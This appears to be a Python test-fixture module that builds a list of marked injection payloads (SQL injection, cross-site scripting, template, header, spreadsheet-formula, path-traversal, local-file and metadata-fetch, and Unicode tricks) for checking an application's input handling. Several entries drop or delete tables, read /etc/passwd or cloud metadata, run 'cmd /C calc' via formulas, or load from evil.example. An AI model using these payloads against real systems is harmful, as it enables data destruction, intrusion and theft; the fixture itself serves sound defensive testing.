"""Texts that would do something if anybody took them for more than text. Each says MARK, so that it can be found again."""

MARK = "zq7x"

_SQL = [
    "'; DROP TABLE gifts; --", "' OR '1'='1", "'; SELECT pg_sleep(5); --", "1; DELETE FROM journals", "') OR 1=1 --", "\\'; DROP TABLE x; --",
    "$1", "$$; SELECT 1; $$", "' UNION SELECT password_hash FROM members --", "%' OR name LIKE '%", "_%_%", "\\", "\\\\'", "E'\\x27'",
    "{}", "{0}", "%s", "%(name)s", ":name", "?", "'||(SELECT version())||'", '"; DROP TABLE gifts; --', "/* */", "--", "0x27",
]  # fmt: skip
_SCRIPT = [
    "<script>window.zq7x=1</script>", "<img src=x onerror=window.zq7x=1>", '"><script>window.zq7x=1</script>', "'><svg onload=window.zq7x=1>",
    "<svg/onload=window.zq7x=1>", "javascript:window.zq7x=1", "JaVaScRiPt:window.zq7x=1", "data:text/html,<script>window.zq7x=1</script>",
    '" onmouseover="window.zq7x=1', "' onfocus='window.zq7x=1' autofocus='", "</title><script>window.zq7x=1</script>",
    "</textarea><script>window.zq7x=1</script>", "</option></select><img src=x onerror=window.zq7x=1>", "<!--<script>window.zq7x=1//-->",
    "<iframe srcdoc='<script>parent.zq7x=1</script>'>", "<body onload=window.zq7x=1>", "<a href=javascript:window.zq7x=1>x</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.zq7x=1>", "<details open ontoggle=window.zq7x=1>",
    "<input autofocus onfocus=window.zq7x=1>", "<base href=//evil.example>", "<link rel=stylesheet href=//evil.example/zq7x>",
    "<style>@import '//evil.example/zq7x'</style>", "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><button>zq7x</button></form>", "\"}};window.zq7x=1;//", "';window.zq7x=1;//", "</script><script>window.zq7x=1</script>",
    "<div hx-get=//evil.example hx-trigger=load>zq7x</div>", "<div hx-on:click=window.zq7x=1>zq7x</div>", "<x hx-vals='js:{a:window.zq7x=1}'>",
    "&lt;script&gt;window.zq7x=1&lt;/script&gt;", "&#60;script&#62;window.zq7x=1", "%3Cscript%3Ewindow.zq7x=1", "＜script＞window.zq7x=1＜/script＞",
    "<scr<script>ipt>window.zq7x=1</scr</script>ipt>", "<object data=//evil.example/zq7x>", "<template><script>window.zq7x=1</script></template>",
]  # fmt: skip
_TEMPLATE = [
    "{{7*7}}zq7x", "{% raw %}zq7x{% endraw %}", "{%if 1%}zq7x{%endif%}", "{{config}}zq7x", "{{request.scope}}zq7x", "{{''.__class__.__mro__}}zq7x",
    "{#zq7x#}", "${7*7}zq7x", "#{7*7}zq7x", "<%= 7*7 %>zq7x", "{{url_for('x')}}zq7x", "%(zq7x)s", "{zq7x}", "{zq7x!r}", "$zq7x", "⟦link_url⟧zq7x",
    "{amount}zq7x", "{name}zq7x", "{count}zq7x", "{0.__class__}zq7x",
]  # fmt: skip
_HEADER = [
    "zq7x\r\nX-Evil: 1", "zq7x\nBcc: evil@example.org", "zq7x\rX-Evil: 1", "zq7x\r\n\r\n<script>window.zq7x=1</script>", "zq7x%0d%0aX-Evil:1",
    "zq7x\u2028X-Evil: 1", "zq7x\u0085X-Evil: 1", "zq7x\x0bX-Evil: 1", "zq7x; filename=evil.exe", 'zq7x"; filename="evil.exe',
    "=?utf-8?q?zq7x=0D=0ABcc:evil@example.org?=", "zq7x <evil@example.org>", "zq7x, evil@example.org", '"zq7x" <evil@example.org>, x',
]  # fmt: skip
_FORMULA = [
    "=1+1&\"zq7x\"", "=HYPERLINK(\"//evil.example\",\"zq7x\")", "+zq7x()", "-2+3+cmd|' /C calc'!zq7x", "@SUM(zq7x)", "\t=zq7x", "\r=zq7x", " =zq7x",
    "=cmd|'/C calc'!A0zq7x", "＝1+1zq7x", "＋zq7x", "－zq7x", "＠zq7x", "\u200b=zq7x", "\ufeff=zq7x", "\"=zq7x", "'=zq7x", ";=zq7x", ",=zq7x", "%0A=zq7x",
]  # fmt: skip
_PATH = [
    "../../../../etc/passwd zq7x", "..\\..\\zq7x", "/etc/passwd zq7x", "file:///etc/passwd zq7x", "....//....//zq7x", "%2e%2e%2fzq7x", "zq7x\x00.png",
    "C:\\zq7x", "\\\\evil.example\\zq7x", "~/zq7x", "CON zq7x", "zq7x/../../x", "//evil.example/zq7x", "/\\evil.example/zq7x", "http:zq7x",
]  # fmt: skip
_FETCH = [
    "<img src=file:///etc/passwd>zq7x", "<img src='http://127.0.0.1:1/zq7x'>", "<link rel=attachment href=file:///etc/passwd>zq7x",
    "<a rel=attachment href=file:///etc/hostname>zq7x</a>", "url(file:///etc/passwd)zq7x", "@import url(http://127.0.0.1:1/zq7x);",
    "<object data=file:///etc/passwd>zq7x", "<style>body{background:url(file:///etc/passwd)}</style>zq7x", "<svg><image href=file:///etc/passwd>zq7x</svg>",
    "<iframe src=file:///etc/passwd>zq7x", "<embed src=file:///etc/passwd>zq7x", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;zq7x",
    "http://169.254.169.254/zq7x", "gopher://127.0.0.1/zq7x", "<h1 style='position:fixed;top:0'>zq7x</h1>", "<td colspan=99999999>zq7x",
]  # fmt: skip
_UNICODE = [
    "zq7x\u202egpj.exe", "zq7x\u200b\u200d\ufeff", "zq7x\u2066<b>\u2069", "Ｚzq7x＜ｂ＞", "zq7x\u0301\u0302\u0303" * 5, "zq7x\U0001f469\u200d\U0001f680",
    "zq7x\ud7ff\ue000", "zq7xﬀﬁ", "ſcript zq7x", "zq7x\u1680\u3000x", "ＤＲＯＰ zq7x", "İıſ zq7x", "zq7x\U000e0041", "ᴢzq7x", "zq7x \ufdfa", "zq7x\uffff",
    "zq7x‮‭", "é́zq7x", "Ω̷zq7x", "zq7x\u00ad\u00ad",
]  # fmt: skip


def _marked(text: str) -> str:
    return text if MARK in text else f"{text} {MARK}"


_PLAIN = [*_SQL, *_SCRIPT, *_TEMPLATE, *_HEADER, *_FORMULA, *_PATH, *_FETCH, *_UNICODE]
# Each also in the middle of other words, where a filter for the beginning does not see it.
PAYLOADS: list[str] = [_marked(text) for text in _PLAIN] + [f"Anna {_marked(text)}" for text in _PLAIN]
